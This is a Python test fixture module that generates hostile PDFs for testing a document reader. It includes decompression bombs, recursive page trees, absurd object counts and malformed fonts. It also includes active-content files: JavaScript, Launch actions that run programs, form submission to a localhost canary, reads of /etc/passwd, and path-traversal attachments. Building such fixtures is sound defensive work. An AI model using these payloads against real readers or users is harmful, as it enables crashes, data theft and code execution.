"""Hostile PDFs, made on the spot: bombs, loops, lies and active content, each a few kilobytes.

HOSTILE are files that want to crash, hang or fill their reader; ACTIVE are whole and readable,
and ask their reader to open, run, send or write something.
"""

from __future__ import annotations

import io
import tempfile
import zlib
from collections.abc import Callable, Mapping

from pypdf import PdfWriter

from tests.pdf_factory import (
    cut_off_pdf,
    damaged_pdf,
    endless_outline_pdf,
    locked_pdf,
    mapped_pdf,
    raw_pdf,
    stream,
    text_pdf,
)
from tests.pdf_factory import raw_page as one_page

CANARY = "http://127.0.0.1:9/phone-home"
"""Where ACTIVE files want to go; nobody listens there."""
EVIL = "legaldesk-evil"
"""The start of every file name that ACTIVE files want to write or run."""

TEXT = "BT /F1 12 Tf 72 700 Td (Hostile lease) Tj ET"
Objects = dict[int, bytes]


def page(content: bytes | str = TEXT, more: Mapping[int, bytes] | None = None) -> bytes:
    """One page whose content is given as text or as a whole stream object."""
    own = {4: content} if isinstance(content, bytes) else {4: stream(content)}
    return one_page("", more=own | dict(more or {}))


def catalog(entries: str) -> bytes:
    """A page whose catalog has these entries as well."""
    return page(more={1: f"<</Type/Catalog/Pages 2 0 R{entries}>>".encode()})


def annotated(action: str, kind: str = "/A") -> bytes:
    """A page with a link all over it."""
    link = f"<</Type/Annot/Subtype/Link/Rect[0 0 612 792]{kind}<<{action}>>>>"
    leaf = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[6 0 R]"
        b"/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    return page(more={3: leaf, 6: link.encode()})


def leaf(entries: str, box: str = "[0 0 612 792]") -> bytes:
    """A page with other entries or another size."""
    made = f"<</Type/Page/Parent 2 0 R/MediaBox{box}/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>"
    return page(more={3: f"{made}>>{entries}>>".encode()})


def tree(pages: Objects) -> bytes:
    """A file with this page tree from object 2 on."""
    return raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>"} | pages)


def packed(data: bytes, filters: str = "/FlateDecode", times: int = 1) -> bytes:
    """A stream object, deflated so many times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    head = f"<</Filter[{filters}]/Length {len(data)}>>"
    return head.encode() + b"\nstream\n" + data + b"\nendstream"


def bomb(megabytes: int) -> bytes:
    """A deflated stream of blanks that is a thousandth of its real size."""
    deflater = zlib.compressobj(9)
    parts = [deflater.compress(b" " * (1 << 20)) for _ in range(megabytes)]
    data = b"".join([*parts, deflater.compress(TEXT.encode()), deflater.flush()])
    return b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(data), data)


def laughs(levels: int) -> bytes:
    """Forms that draw the next one twice."""
    form = "<</Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X %d 0 R>>>>"
    forms = {
        n: f"{form % (n + 1)}/Length 10>>\nstream\n/X Do/X Do\nendstream".encode()
        for n in range(6, 6 + levels)
    }
    drawn = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
    drawn += b"/Resources<</XObject<</X 6 0 R>>>>>>"
    return page("/X Do", forms | {3: drawn, 6 + levels: stream("")})


def kids(levels: int) -> bytes:
    """A page tree in which every node has the next one twice."""
    nodes = {
        n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 1 << (levels - n + 2))
        for n in range(2, 2 + levels)
    }
    return tree(nodes | {2 + levels: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"})


def deep(levels: int) -> bytes:
    """A page tree as deep as that, with one page at its end."""
    nodes = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 2 + levels)}
    return tree(nodes | {2 + levels: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"})


def font(entries: str, more: Mapping[int, bytes] | None = None) -> bytes:
    """A page set in a font with these entries."""
    return page(more={5: f"<</Type/Font{entries}>>".encode()} | dict(more or {}))


def swapped(old: bytes, new: bytes) -> bytes:
    """An honest file with some of its bytes exchanged."""
    whole = page()
    assert old in whole
    return whole.replace(old, new)


def attached(name: str) -> bytes:
    """A page with a file attached under a name, by an honest library."""
    writer = PdfWriter(clone_from=io.BytesIO(text_pdf("Hostile lease")))
    writer.add_attachment(name, b"#!/bin/sh\ntouch " + EVIL.encode())
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


SELF = {6: b"<</Kids[6 0 R 6 0 R]>>"}
WIDE = "/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 2000000000/Widths[500]"
COMPOSITE = "/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[5 0 R]"
BAD_FILE = "/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R"
DESCRIPTOR = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>"

HOSTILE: dict[str, Callable[[], bytes]] = {
    "bomb": lambda: page(bomb(120)),
    "bomb in a bomb": lambda: page(packed(b" " * (64 << 20), "/FlateDecode/FlateDecode", 2)),
    "run lengths": lambda: page(packed(b"\x81 " * (1 << 21), "/FlateDecode/RunLengthDecode")),
    "two billion columns": lambda: page(
        packed(TEXT.encode()).replace(
            b"<<", b"<</DecodeParms<</Predictor 15/Columns 2000000000>>", 1
        )
    ),
    "page tree that holds itself": lambda: tree({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}),
    "page tree in a ring": lambda: tree(
        {
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>",
        }
    ),
    "pages doubled 30 times": lambda: kids(30),
    "page tree 5,000 deep": lambda: deep(5_000),
    "two billion pages": lambda: swapped(b"/Count 1", b"/Count 2000000000"),
    "minus one page": lambda: swapped(b"/Count 1", b"/Count -1"),
    "parent of itself": lambda: tree(
        {2: b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>", 3: b"<</Type/Page/Parent 2 0 R>>"}
    ),
    "arrays 100,000 deep": lambda: leaf("/X " + "[" * 100_000 + "]" * 100_000),
    "arrays in the content": lambda: page(packed(b"[" * 10**6 + b"]" * 10**6 + TEXT.encode())),
    "states 500,000 deep": lambda: page(packed(b"q " * 500_000 + TEXT.encode())),
    "forms doubled 16 times": lambda: laughs(16),
    "table of 4 billion objects": lambda: swapped(b"xref\n0 6", b"xref\n0 4000000000"),
    "size of 2 billion": lambda: swapped(b"/Size 6", b"/Size 2000000000"),
    "table before itself": lambda: swapped(b"/Root 1 0 R", b"/Root 1 0 R/Prev 15"),
    "no table": lambda: page().partition(b"xref\n")[0],
    "table elsewhere": lambda: swapped(b"startxref\n", b"startxref\n9"),
    "trailers without end": lambda: b"%PDF-1.4\n" + b"trailer <</Root 1 0 R>>\n" * 50_000,
    "stream without end": lambda: swapped(b"endstream", b"endstrxxx"),
    "stream of 4 billion bytes": lambda: page(
        b"<</Length 4000000000>>\nstream\n%s\nendstream" % TEXT.encode()
    ),
    "length that asks itself": lambda: page(b"<</Length 4 0 R>>\nstream\n\nendstream"),
    "giant page": lambda: leaf("", "[0 0 1000000000 1000000000]"),
    "page of no size": lambda: leaf("", "[612 792 -99999999999999999999 nan]"),
    "giant unit": lambda: leaf("/UserUnit 1000000"),
    "giant image": lambda: page(
        "q 612 0 0 792 0 0 cm /I Do Q",
        {
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
            b"/Resources<</XObject<</I 6 0 R>>>>>>",
            6: b"<</Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB"
            b"/BitsPerComponent 8/Length 3>>\nstream\nabc\nendstream",
        },
    ),
    "font of two billion widths": lambda: font(WIDE),
    "font in itself": lambda: font(COMPOSITE),
    "font file of noise": lambda: font(
        BAD_FILE, {6: DESCRIPTOR, 7: stream(b"\0\1\0\0\xff\xff" + bytes(range(256)) * 40)}
    ),
    "text of half characters": lambda: mapped_pdf("abc", {"a": "D800", "b": "DC00DC00"}),
    "text of NUL and turned text": lambda: mapped_pdf("abc", {"a": "0000", "b": "202E"}),
    "bookmarks in a ring": endless_outline_pdf,
    "labels in a ring": lambda: page(more=SELF | {1: CATALOG % b"/PageLabels 6 0 R"}),
    "names in a ring": lambda: page(more=SELF | {1: CATALOG % b"/Names<</EmbeddedFiles 6 0 R>>"}),
    "title of markup": lambda: text_pdf("Hostile lease", title="<img src='http://127.0.0.1:9/'>"),
    "password and no page": lambda: locked_pdf().replace(b"/Count 1", b"/Count 9"),
    "cipher that is none": lambda: locked_pdf().replace(b"/V 5", b"/V 9"),
    "key of no length": lambda: locked_pdf("x", "RC4-128").replace(b"/Length 128", b"/Length 000"),
    "half a file": cut_off_pdf,
    "no PDF inside": damaged_pdf,
    "only a header": lambda: b"%PDF-1.7\n",
    "nothing": lambda: b"",
    "a web page": lambda: b"<html><body>%PDF-1.7</body></html>"[:15] + b"x" * 500,
}  # fmt: skip
"""Makers by what is wrong."""

CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
_JS = f"/S/JavaScript/JS(app.launchURL\\('{CANARY}'\\);this.exportDataObject\\(0\\))"
_RICH = (
    f"<</Type/Annot/Subtype/RichMedia/Rect[0 0 612 792]/RichMediaContent<</Assets<</Names[({EVIL})"
    f"<</Type/Filespec/FS/URL/F({CANARY})>>]>>>>/RichMediaSettings<</Activation<</Condition/PO>>>>>>"
)

ACTIVE: dict[str, Callable[[], bytes]] = {
    "script on opening": lambda: catalog(f"/OpenAction<<{_JS}>>"),
    "script by name": lambda: catalog(f"/Names<</JavaScript<</Names[(a)<<{_JS}>>]>>>>"),
    "script before closing": lambda: catalog(f"/AA<</WC<<{_JS}>>/WS<<{_JS}>>>>"),
    "script on a page": lambda: leaf(f"/AA<</O<<{_JS}>>/C<<{_JS}>>>>"),
    "program on opening": lambda: catalog(
        f"/OpenAction<</S/Launch/F(touch)/Unix<</F(touch)/P({tempfile.gettempdir()}/{EVIL})>>"
        "/Win<</F(calc.exe)>>>>"
    ),
    "program under a link": lambda: annotated("/S/Launch/F(touch)/NewWindow true"),
    "address on opening": lambda: catalog(f"/OpenAction<</S/URI/URI({CANARY})>>"),
    "address under a link": lambda: annotated(f"/S/URI/URI({CANARY})"),
    "file under a link": lambda: annotated("/S/URI/URI(file:///etc/passwd)"),
    "form sent on opening": lambda: catalog(
        f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({CANARY})>>/Flags 4>>"
    ),
    "data imported on opening": lambda: catalog("/OpenAction<</S/ImportData/F(/etc/passwd)>>"),
    "another file on opening": lambda: catalog(
        "/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>"
    ),
    "sound and film": lambda: annotated(
        f"/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F({CANARY})>>>>>>"
    ),
    "rich media": lambda: page(
        more={
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[6 0 R]"
            b"/Resources<</Font<</F1 5 0 R>>>>>>",
            6: _RICH.encode(),
        }
    ),
    "content from elsewhere": lambda: page(
        f"<</Length 0/F<</FS/URL/F({CANARY})>>>>\nstream\n\nendstream".encode()
    ),
    "content from a file": lambda: page(b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream"),
    "attachment above": lambda: attached(f"../../../../../..{tempfile.gettempdir()}/{EVIL}"),
    "attachment of Windows": lambda: attached(f"..\\..\\..\\{EVIL}.exe"),
    "attachment with a whole path": lambda: attached(f"{tempfile.gettempdir()}/{EVIL}"),
}
"""Makers by what is asked of the reader; all but those with content from elsewhere have text."""
